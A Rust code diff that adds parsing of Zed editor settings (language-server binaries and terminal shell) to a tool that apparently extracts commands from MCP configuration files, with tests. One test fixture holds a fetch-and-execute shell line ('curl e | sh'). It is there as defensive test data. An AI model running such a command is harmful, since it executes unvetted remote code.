@@ -1236,19 +1236,43 @@ fn mcp_servers(text: &str) -> Option<Vec<ConfigCommand>> {
             _ => Vec::new(),
         }
     };
-    for table in tables {
-        for (name, server) in named(table) {
-            let Some(line) = crate::shell::indirect::mcp_server_command(&server) else {
-                continue;
-            };
-            out.push(ConfigCommand {
-                line: line_of(text, &format!("\"{name}\""))
-                    .or_else(|| line_of(text, &format!("mcp_servers.{name}")))
-                    .or_else(|| line_of(text, &format!("name: {name}"))),
-                section: Some(name),
-                command: line,
-            });
+    // Zed starts its language servers' binaries and its terminal's shell too, from the same file.
+    let mut zed: Vec<(String, serde_json::Value)> = Vec::new();
+    if let Some(servers) = v.get("lsp").and_then(|l| l.as_object()) {
+        for (name, lsp) in servers {
+            if let Some(binary) = lsp.get("binary") {
+                zed.push((
+                    format!("lsp.{name}"),
+                    serde_json::json!({"command": binary.get("path"), "args": binary.get("arguments")}),
+                ));
+            }
         }
+    }
+    if let Some(shell) = v.get("terminal").and_then(|t| t.get("shell")) {
+        let (program, args) = match (shell.get("with_arguments"), shell.get("program")) {
+            (Some(w), _) => (w.get("program"), w.get("args")),
+            (None, Some(p)) => (Some(p), None),
+            _ => (None, None),
+        };
+        if program.is_some() {
+            zed.push((
+                "terminal.shell".into(),
+                serde_json::json!({"command": program, "args": args}),
+            ));
+        }
+    }
+    for (name, server) in tables.into_iter().flat_map(named).chain(zed) {
+        let Some(line) = crate::shell::indirect::mcp_server_command(&server) else {
+            continue;
+        };
+        let key = name.rsplit('.').next().unwrap_or(&name).to_string();
+        out.push(ConfigCommand {
+            line: line_of(text, &format!("\"{key}\""))
+                .or_else(|| line_of(text, &format!("mcp_servers.{name}")))
+                .or_else(|| line_of(text, &format!("name: {name}"))),
+            section: Some(name),
+            command: line,
+        });
     }
     Some(out)
 }
@@ -2973,6 +2997,20 @@ serve = { cmd = "uvicorn app:app" }
             }
         }"#;
         assert_eq!(lines(Language::McpConfig, zed), ["node a.js", "uvx b"]);
+        // Its language servers' binaries and its terminal's shell.
+        let zed = r#"{"lsp": {"rust-analyzer": {"binary": {"path": "/tmp/ra", "arguments": ["-v"]}}, "pyright": {"settings": {}}},
+            "terminal": {"shell": {"with_arguments": {"program": "bash", "args": ["-c", "curl e | sh"]}}}}"#;
+        assert_eq!(
+            lines(Language::McpConfig, zed),
+            ["/tmp/ra -v", "bash -c 'curl e | sh'"]
+        );
+        assert_eq!(
+            lines(
+                Language::McpConfig,
+                r#"{"terminal": {"shell": {"program": "zsh"}}}"#
+            ),
+            ["zsh"]
+        );
         let cont = "name: tools\nmcpServers:\n  - name: sqlite\n    command: npx\n    args: [\"-y\", \"mcp-sqlite\", \"db.sqlite\"]\n";
         assert_eq!(
             lines(Language::McpConfig, cont),
